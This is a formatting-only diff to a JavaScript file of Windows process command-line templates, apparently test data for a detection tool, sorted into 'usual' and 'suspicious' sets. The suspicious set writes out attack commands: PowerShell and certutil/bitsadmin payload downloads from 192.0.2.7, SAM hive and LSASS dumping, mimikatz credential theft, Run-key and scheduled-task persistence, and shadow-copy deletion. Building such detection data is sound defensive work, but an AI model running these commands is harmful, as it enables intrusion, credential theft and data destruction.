@@ -85,12 +85,24 @@ const usual = [
   [`${system}conhost.exe`, ...windows, ['0xffffffff -ForceV1', '--headless --width # --height # --signal 0x@']],
   [`${system}RuntimeBroker.exe`, ...windows, ['-Embedding']],
   [`${system}backgroundTaskHost.exe`, ...windows, ['-ServerName:App.AppX@.mca', '-ServerName:CortanaUI.AppX@.mca']],
-  [`${system}SearchProtocolHost.exe`, ...windows, ['Global\\UsGthrFltPipeMssGthrPipe#_ Global\\UsGthrCtrlFltPipe 1 -@']],
+  [
+    `${system}SearchProtocolHost.exe`,
+    ...windows,
+    ['Global\\UsGthrFltPipeMssGthrPipe#_ Global\\UsGthrCtrlFltPipe 1 -@'],
+  ],
   [`${system}dllhost.exe`, ...windows, ['/Processid:{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}', '/Processid:{@}']],
   [`${system}taskhostw.exe`, ...windows, ['', 'Install $(Arg0)', 'KEYROAMING']],
   [`${system}wbem\\WmiPrvSE.exe`, ...windows, ['-secured -Embedding']],
-  [`${system}cmd.exe`, ...windows, ['/c "C:\\Tools\\nightly.cmd" @', '/d /s /c "npm run build -- --port=#"', '/c dir C:\\Users\\mira\\@']],
-  [`${system}rundll32.exe`, ...windows, ['shell32.dll,Control_RunDLL desk.cpl', 'C:\\Windows\\System32\\@.dll,Entry #']],
+  [
+    `${system}cmd.exe`,
+    ...windows,
+    ['/c "C:\\Tools\\nightly.cmd" @', '/d /s /c "npm run build -- --port=#"', '/c dir C:\\Users\\mira\\@'],
+  ],
+  [
+    `${system}rundll32.exe`,
+    ...windows,
+    ['shell32.dll,Control_RunDLL desk.cpl', 'C:\\Windows\\System32\\@.dll,Entry #'],
+  ],
   [
     `${system}WindowsPowerShell\\v1.0\\powershell.exe`,
     ...windows,
@@ -139,19 +151,40 @@ const suspicious = [
     ...windows,
     [
       '-nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA@',
-      'IEX (New-Object Net.WebClient).DownloadString(\'http://192.0.2.7:#/@.ps1\')',
+      "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.7:#/@.ps1')",
     ],
   ],
-  [`${system}cmd.exe`, ...windows, ['/c whoami /all > %TEMP%\\@.txt', '/c echo @ > \\\\.\\pipe\\@', '/c net group "domain admins" /dom']],
-  [`${system}reg.exe`, ...windows, ['save HKLM\\SAM C:\\Users\\Public\\@.hiv', 'add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v @ /d C:\\Temp\\@.exe']],
+  [
+    `${system}cmd.exe`,
+    ...windows,
+    ['/c whoami /all > %TEMP%\\@.txt', '/c echo @ > \\\\.\\pipe\\@', '/c net group "domain admins" /dom'],
+  ],
+  [
+    `${system}reg.exe`,
+    ...windows,
+    [
+      'save HKLM\\SAM C:\\Users\\Public\\@.hiv',
+      'add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v @ /d C:\\Temp\\@.exe',
+    ],
+  ],
   [`${system}schtasks.exe`, ...windows, ['/create /tn @ /tr C:\\Users\\Public\\@.exe /sc minute /mo 5 /ru system']],
   [`${system}certutil.exe`, ...windows, ['-urlcache -split -f http://192.0.2.7/@.txt C:\\Temp\\@.exe']],
   [`${system}rundll32.exe`, ...windows, ['C:\\Windows\\System32\\comsvcs.dll, MiniDump # C:\\Temp\\@.dmp full']],
   [`${system}vssadmin.exe`, ...windows, ['delete shadows /all /quiet']],
-  [`${system}bitsadmin.exe`, ...windows, ['/transfer @ /download /priority high http://192.0.2.7/@.exe C:\\Temp\\@.exe']],
+  [
+    `${system}bitsadmin.exe`,
+    ...windows,
+    ['/transfer @ /download /priority high http://192.0.2.7/@.exe C:\\Temp\\@.exe'],
+  ],
   ['C:\\Users\\mira\\AppData\\Local\\Temp\\mimikatz.exe', '-', '-', ['privilege::debug sekurlsa::logonpasswords exit']],
 ];
 
 const users = ['CORP\\mira', 'CORP\\jonas', 'NT AUTHORITY\\SYSTEM', 'NT AUTHORITY\\NETWORK SERVICE'];
 const folders = [system, 'C:\\Users\\mira\\', 'C:\\Program Files\\Git\\', 'C:\\Windows\\Temp\\'];
-const descriptions = ['Host Process for Windows Services', 'Console Window Host', 'Google Chrome', 'Git for Windows', '-'];
+const descriptions = [
+  'Host Process for Windows Services',
+  'Console Window Host',
+  'Google Chrome',
+  'Git for Windows',
+  '-',
+];
